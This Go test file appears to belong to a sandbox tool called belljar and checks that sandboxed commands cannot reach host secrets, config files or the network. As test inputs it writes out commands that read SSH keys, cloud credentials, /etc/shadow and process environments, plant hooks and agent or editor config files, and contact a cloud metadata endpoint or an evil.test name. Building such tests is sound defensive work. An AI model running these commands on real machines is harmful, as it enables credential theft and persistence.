package e2e

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestReads: rows 1-5, 32-36 and 45 of the table of behaviours.
func TestReads(t *testing.T) {
	w := newWorld(t)
	w.write(".npmrc", projectSecret)
	w.write("deploy/prod.pem", projectSecret)
	w.write("deploy/gcp-service-account.json", projectSecret)
	w.write("sub/.ENV.local", projectSecret)
	w.write("x/.kube/config", projectSecret)
	for _, line := range []string{
		"cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.config/gh/hosts.yml ~/.claude/.credentials.json ~/.npmrc",
		"cat .env .npmrc deploy/prod.pem deploy/gcp-service-account.json sub/.ENV.local x/.kube/config",
		"cat ./deploy/../.env; cat $(pwd)/.env; ln -s .env l; cat l; ln .env h; cat h; cp .env c; cat c; mv .env m; cat m",
		"tar cf - . | cat; grep -r SECRET . ; find / -path /usr -prune -o -name '*.pem' -exec cat {} +",
		"cat /proc/1/environ /proc/self/environ; env",
		"cat /proc/*/environ /proc/*/cmdline",
		"cat /etc/shadow /etc/sudoers /etc/ssh/*; ls /sys /run /var/run/docker.sock",
		"cat /proc/1/root" + w.home + "/.ssh/id_rsa /proc/self/root" + w.home + "/.netrc /proc/self/cwd/../.netrc",
		"cat <&9; for f in /proc/self/fd/*; do timeout 5 cat $f; done", // reading the own output waits for ever
	} {
		r := w.trySh(line)
		mustLack(t, line, r.out+r.errout, homeSecret, projectSecret, envSecret)
	}
	out := w.sh("ls -a . deploy sub x/.kube 2>&1 || true; cat /etc/passwd")
	mustLack(t, "listing", out, ".env", "prod.pem", ".ENV", "daemon")
}

// TestInheritedDescriptor: row 45.
func TestInheritedDescriptor(t *testing.T) {
	w := newWorld(t)
	f, err := os.Open(filepath.Join(w.home, ".ssh/id_rsa"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, line := range []string{"cat <&3; cat /proc/self/fd/3; cat /dev/fd/3", "ls -l /proc/self/fd"} {
		c := w.cmd(context.Background(), "run", "--", "sh", "-c", line)
		c.ExtraFiles = []*os.File{f}
		var both bytes.Buffer
		c.Stdout, c.Stderr = &both, &both
		_ = c.Run() // the shell may fail; what it printed counts
		mustLack(t, line, both.String(), homeSecret, "id_rsa")
		if _, err := f.Seek(0, 0); err != nil {
			t.Fatal(err)
		}
	}
}

// TestLateSecrets: a secret that appears, or is renamed into place, while it runs.
func TestLateSecrets(t *testing.T) {
	w := newWorld(t)
	w.write("plain", projectSecret)
	c := w.cmd(context.Background(), "run", "--", "sh", "-c",
		`cat plain >/dev/null; ls >/dev/null; echo ready; read x; cat .env.prod plain moved.pem; ls -a; cat .env.prod moved.pem; echo done`)
	in, out := startReady(t, c)
	w.write(".env.prod", projectSecret)
	if err := os.Rename(filepath.Join(w.proj, "plain"), filepath.Join(w.proj, "moved.pem")); err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(in, "go")
	got := readUntil(t, out, "done\n")
	if err := c.Wait(); err != nil {
		t.Fatal(err)
	}
	mustLack(t, "late secrets", got, projectSecret, ".env.prod", "moved.pem")
}

// TestWrites: rows 6-8, 14-18: what is written where it must not land.
func TestWrites(t *testing.T) {
	w := newWorld(t)
	w.host("git", "init", "-q")
	w.write(".vscode/tasks.json", "{}")
	outside := filepath.Join(filepath.Dir(w.home), "outside")
	w.write(outside, "untouched")
	w.write(filepath.Join(w.home, ".bashrc"), "untouched")
	if err := os.Symlink(outside, filepath.Join(w.proj, "oldlink")); err != nil {
		t.Fatal(err)
	}
	w.sh(`set -e
echo ok > written; mkdir -p src; echo code > src/main.c
echo evil >> ~/.bashrc; echo evil > ~/x; echo evil > /tmp/y
for f in .claude/settings.json .claude/hooks/x .mcp.json .gitmodules .bashrc .idea/workspace.xml .envrc .husky/pre-commit .cursor/mcp.json .devcontainer/devcontainer.json .vscode/tasks.json .git/hooks/pre-commit .codex/config.toml belljar.yaml .VSCode/settings.json sub/deep/.envrc; do
  mkdir -p "$(dirname $f)"; echo evil > $f; grep -q evil $f
done
git config core.fsmonitor ./evil; git config --get core.fsmonitor
git remote add origin https://example.com/x.git; git remote -v
ln -s ` + outside + ` newlink || true
(echo evil > oldlink) 2>/dev/null || true
(echo evil > newlink) 2>/dev/null || true
mkdir a; echo evil > a/tasks.json; mv a .idea2; mv .idea2 .zed || true
`)
	if w.read("written") != "ok\n" || w.read("src/main.c") != "code\n" {
		t.Error("ordinary writes did not land")
	}
	if b, _ := os.ReadFile(outside); string(b) != "untouched" {
		t.Errorf("written through a link: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(w.home, ".bashrc")); string(b) != "untouched" {
		t.Error("the host's HOME was written")
	}
	for _, p := range []string{".claude", ".mcp.json", ".gitmodules", ".bashrc", ".idea", ".envrc", ".husky", ".cursor", ".devcontainer", ".codex", "belljar.yaml", ".VSCode", "sub/deep/.envrc", ".git/hooks/pre-commit", "newlink", ".zed"} {
		if w.exists(p) {
			t.Errorf("%s landed on the host", p)
		}
	}
	if w.read(".vscode/tasks.json") != "{}" {
		t.Error(".vscode/tasks.json was replaced")
	}
	mustLack(t, ".git/config", w.read(".git/config"), "evil", "example.com")
	if w.exists("../x") {
		t.Error("HOME was written")
	}
}

// TestNetworkBypass: rows 19-21 and 31: nothing but allowed names exists.
func TestNetworkBypass(t *testing.T) {
	w := newWorld(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &httptest.Server{Listener: ln, Config: &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprint(rw, "REACHED-THE-HOST")
	})}}
	srv.Start()
	defer srv.Close()
	abstract := fmt.Sprintf("@bj-e2e-%d", os.Getpid())
	ul, err := net.Listen("unix", abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer ul.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	var addrs []string
	if ifs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range ifs {
			addrs = append(addrs, a.(*net.IPNet).IP.String())
		}
	}
	for _, host := range append(addrs, "127.0.0.1", "localhost", "0.0.0.0", "[::1]", "2130706433", "198.18.0.1", "198.18.0.3", "169.254.169.254") {
		r := w.trySh(fmt.Sprintf("curl -sS -g --max-time 5 http://%s:%d/ 2>&1", strings.Trim(host, " "), port))
		mustLack(t, host, r.out, "REACHED-THE-HOST")
		if r.status == 0 {
			t.Errorf("%s: curl succeeded: %s", host, r.out)
		}
	}
	out := w.sh(fmt.Sprintf(`python3 - <<'EOF'
import socket
def t(name, f):
    try: f(); print(name, "THROUGH")
    except OSError as e: print(name, "stopped", e.errno)
def tcp(a, p, fam=socket.AF_INET):
    s=socket.socket(fam); s.settimeout(3); s.connect((a,p))
def udp(a, p):
    s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x",(a,p)); s.recv(10)
t("raw ip", lambda: tcp("1.1.1.1", 443))
t("metadata", lambda: tcp("169.254.169.254", 80))
t("ipv6", lambda: tcp("2606:4700::1111", 443, socket.AF_INET6))
t("udp", lambda: udp("1.1.1.1", 53))
t("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0%s"))
t("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
t("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
t("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
t("name", lambda: socket.getaddrinfo("secret-data.evil.test", 80))
EOF`, abstract[1:]))
	mustLack(t, "sockets", out, "THROUGH")
	if strings.Count(out, "stopped") != 9 {
		t.Errorf("want 9 stopped:\n%s", out)
	}
}

// TestLocalhostRule: the only way to a service of the host; Node, Python, curl.
func TestLocalhostRule(t *testing.T) {
	w := newWorld(t)
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, "REACHED-THE-HOST") }))
	defer srv.Close()
	other := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, "OTHER-SERVICE") }))
	defer other.Close()
	port := strings.TrimPrefix(srv.URL, "http://127.0.0.1:")
	allow := []string{"--allow", "localhost:" + port}
	mustContain(t, "curl", w.sh("curl -sS --max-time 60 http://localhost:"+port+"/ http://127.0.0.1:"+port+"/", allow...), "REACHED-THE-HOST")
	mustContain(t, "node", w.sh(`node -e "fetch('http://localhost:`+port+`/').then(r=>r.text()).then(console.log)"`, allow...), "REACHED-THE-HOST")
	mustContain(t, "python", w.sh(`python3 -c "import urllib.request as u; print(u.urlopen('http://localhost:`+port+`/').read())"`, allow...), "REACHED-THE-HOST")
	r := w.trySh("curl -sS --max-time 5 "+other.URL, allow...)
	mustLack(t, "another port", r.out, "OTHER-SERVICE")
}

// hostProcess is the number of a process of the host, larger than those inside: in a
// container the first ones are small.
func hostProcess(t *testing.T) int {
	t.Helper()
	for {
		c := exec.CommandContext(t.Context(), "sleep", "600")
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _, _ = c.Process.Kill(), c.Wait() })
		if c.Process.Pid > 50 {
			return c.Process.Pid
		}
	}
}

// TestProcesses: rows 34-44 as far as an own kernel answers them.
func TestProcesses(t *testing.T) {
	w := newWorld(t)
	out := w.sh(`ps aux 2>/dev/null || ls /proc | grep -E '^[0-9]+$'; echo; kill -0 ` + fmt.Sprint(hostProcess(t)) + ` 2>&1 || echo no-such
mknod /tmp/d b 8 0 2>&1 && echo MK''NOD; mount -t tmpfs x /mnt 2>&1 && echo MOU''NT
grep -E 'CapEff|NoNewPrivs' /proc/self/status; dmesg >/dev/null; cat /proc/kallsyms /proc/kcore 2>&1 | head -c 100`)
	mustLack(t, "processes", out, "MKNOD", "MOUNT", "belljar run --", "e2e.test")
	mustContain(t, "status", out, "CapEff:\t0000000000000000", "no-such")
	// A debugger of own children works; programs that the kernel would elevate do not.
	mustContain(t, "child", w.sh("python3 -c 'import os; p=os.fork(); p or os._exit(3); print(os.waitstatus_to_exitcode(os.waitpid(p,0)[1]))'"), "3")
}

// TestControl: our own state, policy and sockets are out of reach.
func TestControl(t *testing.T) {
	w := newWorld(t)
	r := w.trySh("find / -path /usr -prune -o \\( -name events.jsonl -o -name record.key -o -path '*belljar/heads' -o -name run.json -o -name 'policy.yaml' \\) -print 2>/dev/null; ls -la ~/.local/state /var/lib/belljar /tmp/belljar* 2>/dev/null; ls /run/belljar | grep -vx -e guest -e files; find / -path /usr -prune -o -type s -print 2>/dev/null")
	if strings.TrimSpace(r.out) != "" {
		t.Errorf("found inside: %s", r.out)
	}
}

// TestHostileProjectPolicy: a repository's own policy may not widen.
func TestHostileProjectPolicy(t *testing.T) {
	w := newWorld(t)
	for _, body := range []string{
		"version: 1\nnetwork: {allow: [evil.example]}\n",
		"version: 1\nfiles: {read: [\"~/.ssh\"]}\n",
		"version: 1\nenv: {pass: [AWS_SECRET_ACCESS_KEY]}\n",
		"version: 1\nlimits: {memory: 64GiB}\n",
		"version: 1\nworkspace: {mode: live}\nnetwork: {publish: [80]}\n",
	} {
		w.write("belljar.yaml", body)
		r := w.trySh("true")
		if r.status == 0 || !strings.Contains(r.errout, "belljar trust") {
			t.Errorf("%s: status %d\n%s", body, r.status, r.errout)
		}
	}
	w.write("belljar.yaml", "version: 1\nworkspace: {mode: review}\nlimits: {processes: 100}\n")
	w.sh("echo held > f")
	if w.exists("f") {
		t.Error("the project's tightening to review was not honoured")
	}
}

// TestNoSecretsOnRecord: what the caller passes on is not written down.
func TestNoSecretsOnRecord(t *testing.T) {
	w := newWorld(t)
	w.sh("test -n \"$GITHUB_TOKEN\" && test -n \"$API_KEY\" && test -n \"$PASSED\"", "--env", "GITHUB_TOKEN", "--env", "API_KEY="+envSecret, "--env", "PASSED="+"x")
	out := w.belljar("log", "--json").out + w.belljar("plan", "--json", "--env", "GITHUB_TOKEN").out + w.belljar("plan", "--env", "GITHUB_TOKEN").out
	mustLack(t, "record and plan", out, envSecret)
	mustContain(t, "record and plan", out, "GITHUB_TOKEN")
}

// TestEscapes: terminal escapes in names, output and argv stay escaped in our words.
func TestEscapes(t *testing.T) {
	w := newWorld(t)
	w.host("git", "init", "-q")
	evil := "\x1b]52;c;ZXZpbA==\x07\x1b[2J"
	r := w.trySh("mkdir -p .vscode; echo x > '.vscode/" + evil + "'; /bin/true '" + evil + "'; getent hosts 'a'; true")
	mustLack(t, "closing lines", r.errout, "\x1b]52", "\x1b[2J")
	for _, args := range [][]string{{"diff"}, {"log"}, {"log", "summary"}} {
		r := w.belljar(args...)
		mustLack(t, strings.Join(args, " "), r.out+r.errout, "\x1b]52", "\x1b[2J")
	}
	if _, err := unix.Getpgid(0); err != nil {
		t.Fatal(err)
	}
}
